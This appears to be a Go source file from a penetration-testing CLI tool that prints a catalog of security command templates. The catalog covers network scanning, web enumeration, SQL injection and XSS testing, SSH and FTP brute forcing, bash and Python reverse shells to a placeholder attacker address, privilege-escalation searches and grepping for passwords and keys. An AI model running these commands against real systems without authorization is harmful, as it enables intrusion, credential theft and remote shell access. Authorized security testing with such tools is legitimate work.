package main

import (
	"fmt"
	"io"
)

// templateGroup is one category of security command templates.
type templateGroup struct {
	name      string
	templates []template
}

type template struct {
	label   string
	command string
}

// securityTemplates is the static catalog shown by the "templates" command.
// Placeholders like [target] are filled in by the user.
var securityTemplates = []templateGroup{
	{
		name: "Network Reconnaissance:",
		templates: []template{
			{"Host discovery", "nmap -sn 192.168.1.0/24"},
			{"Quick scan", "nmap -T4 -F [target]"},
			{"Full port scan", "nmap -p- -T4 [target]"},
			{"Service scan", "nmap -sV -sC -p [ports] [target]"},
			{"OS detection", "nmap -O [target]"},
			{"Vulnerability scan", "nmap --script vuln [target]"},
		},
	},
	{
		name: "Web Application:",
		templates: []template{
			{"Directory enumeration", "gobuster dir -u [url] -w [wordlist] -x php,html,txt"},
			{"Subdomain enumeration", "gobuster dns -d [domain] -w [wordlist]"},
			{"Web vulnerability scan", "nikto -h [target]"},
			{"SSL/TLS scan", "sslyze [target]:443"},
			{"SQLi test", `sqlmap -u "[url]" --forms --batch --dbs`},
			{"XSS test", `xsser --url "[url]" --auto`},
		},
	},
	{
		name: "Password Attacks:",
		templates: []template{
			{"SSH brute force", "hydra -l [user] -P [wordlist] [target] ssh"},
			{"FTP brute force", "hydra -l [user] -P [wordlist] [target] ftp"},
			{"Password hash cracking", "hashcat -m [hash_type] -a 0 [hash_file] [wordlist]"},
			{"Generate wordlist", "crunch [min] [max] [charset] -o [output_file]"},
		},
	},
	{
		name: "Exploitation:",
		templates: []template{
			{"Reverse shell (bash)", "bash -i >& /dev/tcp/[attacker_ip]/[port] 0>&1"},
			{"Reverse shell (python)", `python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("[attacker_ip]",[port]));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"]);'`},
			{"Reverse shell listener", "nc -lvnp [port]"},
		},
	},
	{
		name: "Post-Exploitation:",
		templates: []template{
			{"Find SUID binaries", `find / -perm -4000 -type f -exec ls -la {} \; 2>/dev/null`},
			{"Find writable files", `find / -writable -type f -not -path "/proc/*" -not -path "/sys/*" -not -path "/run/*" -not -path "/dev/*" 2>/dev/null`},
			{"Check sudo privileges", "sudo -l"},
			{"Get system info", "uname -a && cat /etc/*release"},
			{"List listening ports", "netstat -tuln"},
		},
	},
	{
		name: "File Analysis:",
		templates: []template{
			{"Search for sensitive data", `grep -r "password\|user\|username\|key" [directory]`},
			{"View file strings", `strings [file] | grep -i "password\|user\|key"`},
			{"File metadata", "exiftool [file]"},
			{"Binary analysis", "ltrace/strace [binary]"},
		},
	},
}

// printSecurityTemplates renders the template catalog grouped by category.
func printSecurityTemplates(out io.Writer) {
	fmt.Fprintf(out, "\n%s\n", sectionStyle.Render("Security Command Templates:"))
	fmt.Fprintln(out, ruleStyle.Render("-------------------------"))

	for _, group := range securityTemplates {
		fmt.Fprintf(out, "\n%s\n", groupStyle.Render(group.name))
		for _, t := range group.templates {
			fmt.Fprintf(out, "- %s: %s\n", t.label, successStyle.Render(t.command))
		}
	}

	fmt.Fprintf(out, "\n%s\n", noteStyle.Render("Note: Replace placeholders like [target], [url], etc. with actual values"))
}
